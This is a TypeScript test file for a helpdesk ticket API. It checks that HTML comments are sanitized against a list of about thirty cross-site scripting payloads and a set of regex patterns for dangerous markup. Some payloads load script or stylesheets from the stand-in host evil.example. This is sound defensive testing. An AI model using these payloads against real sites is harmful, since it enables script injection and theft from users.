import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createUser, startTestApp, type TestApp, type TestUser } from '../harness.js';
import { send } from './http.js';

/** Classic cross-site scripting payloads, each of which runs script if rendered as given. */
const XSS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>',
  '<svg onload=alert(1)><circle r=1 /></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="jav&#x09;ascript:alert(1)">tab</a>',
  '<a href="vbscript:msgbox(1)">vb</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<body onload=alert(1)>',
  '<div style="background:url(javascript:alert(1))">styled</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>',
  '<style>@import "//evil.example/x.css";</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<form action="//evil.example"><input name=p><button formaction=javascript:alert(1)>go</button></form>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<p onmouseover="alert(1)">hover</p>',
  '<<script>script>alert(1)<</script>/script>',
  '<scr<script>ipt>alert(1)</script>',
  '"><script>alert(1)</script>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
];

/** What may never be in HTML we hand to a browser. */
const DANGEROUS = [
  /<\s*(script|iframe|object|embed|style|link|meta|base|form|input|button|svg|math|body|video|source|details|noscript)\b/i,
  /\son[a-z]+\s*=/i,
  /(javascript|vbscript)\s*:/i,
  /\sstyle\s*=/i,
  /\ssrcdoc\s*=/i,
  /\sformaction\s*=/i,
  /href\s*=\s*"?\s*data:/i,
];

/** HTML as a browser reads attribute values: numeric entities decoded, tabs and newlines dropped. */
const decoded = (html: string) =>
  html
    .replace(/&#x([0-9a-f]+);?/gi, (_m, hex: string) => String.fromCodePoint(Number.parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_m, dec: string) => String.fromCodePoint(Number(dec)))
    .replace(/&(tab|newline);/gi, '')
    .replace(/[\t\n\r]/g, '');

const dangerIn = (html: string) => DANGEROUS.filter((pattern) => pattern.test(decoded(html))).map(String);

let t: TestApp;
let agent: TestUser;
let customer: TestUser;

beforeAll(async () => {
  t = await startTestApp();
  agent = await createUser(t, { role: 'agent' });
  customer = await createUser(t, { role: 'end-user' });
});
afterAll(() => t?.close());

describe('HTML from outside is sanitized', () => {
  it('the check below recognises every payload as it was sent', () => {
    expect(XSS.filter((payload) => dangerIn(payload).length === 0)).toEqual([]);
  });

  it('every payload comes back harmless in comments, audits and the write’s own answer', async () => {
    const created = await send(t, customer, 'POST', '/api/v2/tickets', {
      json: { ticket: { subject: 'XSS collection', comment: { html_body: '<p>Hello <b>team</b></p>' } } },
    });
    expect(created.status).toBe(201);
    const id = created.json.ticket.id;
    const problems: string[] = [];
    for (const [i, payload] of XSS.entries()) {
      const who = i % 2 === 0 ? customer : agent;
      const res = await send(t, who, 'PUT', `/api/v2/tickets/${id}`, {
        json: { ticket: { comment: { html_body: `<p>#${i}</p>${payload}` } } },
      });
      if (res.status !== 200) {
        problems.push(`#${i} → ${res.status}`);
        continue;
      }
      const event = res.json.audit.events.find((e: { type: string }) => e.type === 'Comment');
      for (const danger of dangerIn(event.html_body))
        problems.push(`#${i} write answer: ${danger} in ${event.html_body}`);
    }
    for (const [who, path] of [
      [agent, `/api/v2/tickets/${id}/comments`],
      [customer, `/api/v2/tickets/${id}/comments`],
      [agent, `/api/v2/tickets/${id}/audits`],
    ] as const) {
      const res = await send(t, who, 'GET', path);
      expect(res.status).toBe(200);
      const comments =
        res.json.comments ??
        res.json.audits.flatMap((a: { events: { type: string }[] }) =>
          a.events.filter((e) => e.type === 'Comment'),
        );
      expect(comments.length).toBe(XSS.length + 1);
      for (const c of comments as { html_body: string }[]) {
        for (const danger of dangerIn(c.html_body)) problems.push(`${path}: ${danger} in ${c.html_body}`);
      }
    }
    expect(problems).toEqual([]);
  });

  it('keeps ordinary formatting and makes links safe to follow', async () => {
    const res = await send(t, agent, 'POST', '/api/v2/tickets', {
      json: {
        ticket: {
          subject: 'Formatting',
          requester_id: customer.user.id,
          comment: {
            html_body:
              '<p>Try <strong>this</strong>:</p><ol><li><a href="https://docs.example.test/x">the guide</a></li></ol><img src="https://cdn.example.test/a.png" alt="a">',
          },
        },
      },
    });
    const html = res.json.audit.events.find((e: { type: string }) => e.type === 'Comment')
      .html_body as string;
    expect(html).toContain('<strong>this</strong>');
    expect(html).toContain('<ol><li>');
    expect(html).toMatch(/<a href="https:\/\/docs\.example\.test\/x"[^>]*rel="noopener noreferrer nofollow"/);
    expect(html).toContain('<img src="https://cdn.example.test/a.png" alt="a" />');
  });

  it('turns a plain-text body with markup into escaped text, never into tags', async () => {
    const res = await send(t, customer, 'POST', '/api/v2/tickets', {
      json: {
        ticket: {
          subject: '<script>alert(1)</script>',
          comment: { body: '<img src=x onerror=alert(1)> & <b>' },
        },
      },
    });
    expect(res.status).toBe(201);
    const comment = res.json.audit.events.find((e: { type: string }) => e.type === 'Comment');
    expect(comment.html_body).not.toMatch(/<img|<b>/);
    expect(comment.html_body).toContain('&lt;img');
    expect(comment.body).toBe('<img src=x onerror=alert(1)> & <b>');
  });
});
